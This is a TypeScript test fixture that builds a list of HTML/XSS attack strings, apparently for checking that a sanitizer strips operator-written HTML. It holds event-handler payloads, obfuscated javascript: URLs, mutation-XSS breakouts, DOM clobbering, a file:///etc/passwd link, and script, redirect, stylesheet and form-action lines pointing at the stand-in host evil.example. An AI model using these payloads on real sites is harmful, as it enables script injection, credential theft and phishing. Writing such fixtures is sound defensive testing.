/* XS-01: ways to run, load, submit, restyle or cover in HTML that an operator wrote. A script of one sets `window.attacked`. */

const run = 'window.attacked = 1'

const tags = 'a b body details div iframe img input li marquee p svg table video'.split(' ')
const events = 'onload onerror onclick onfocus onmouseover ontoggle onanimationstart onpointerenter'.split(' ')
const handlers = tags.flatMap((tag) =>
  events.map((event) => `<${tag} src=x tabindex=0 autofocus ${event}="${run}">text</${tag}>`),
)

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` java\tscript:${run}`,
  `java&#10;script:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;ava&Tab;script:${run}`,
  `\u0001javascript:${run}`,
  'data:text/html,<script>1</script>',
  'vbscript:msgbox(1)',
  'blob:https://own.example/x',
  'file:///etc/passwd',
  '//evil.example',
]
const links = schemes.flatMap((href) => [
  `<a href="${href}">text</a>`,
  `<img src="${href}">`,
  `<form action="${href}"><button>text</button></form>`,
  `<svg><a xlink:href="${href}"><text>text</text></a></svg>`,
  `<iframe src="${href}"></iframe>`,
])

const documents = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</script>`,
  `<script type="module">${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg onload="${run}"><use href="#x"></use></svg>`,
  `<svg><style><img src=x onerror="${run}"></style></svg>`,
  `<svg><animate attributeName=href values="javascript:${run}"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">text</math>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<video src="https://evil.example"></video>',
  '<audio src="https://evil.example"></audio>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body { display: none }</style>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<div style="position:fixed;inset:0">text</div>',
  '<div class="fixed inset-0" id="root" name="forms">text</div>',
  '<p style="background:url(https://evil.example/x)">text</p>',
  '<img name="getElementById"><form id="attributes"><input name="attributes"></form>',
  `<template><img src=x onerror="${run}"></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${run}>"></title>`,
  `<!-- <script>${run}</script> -->`,
  `<![CDATA[<script>${run}</script>]]>`,
  '<input type="image" src="https://evil.example/x">',
  '<button formaction="https://evil.example">Sign in</button>',
  '<img src="http://evil.example/x.png">',
  '<img srcset="https://evil.example/x.png 2x">',
  '<picture><source srcset="https://evil.example/x.png"><img></picture>',
  // The last one: without scripts it takes all that follows.
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
]

export const html_attacks: readonly string[] = [...handlers, ...links, ...documents]
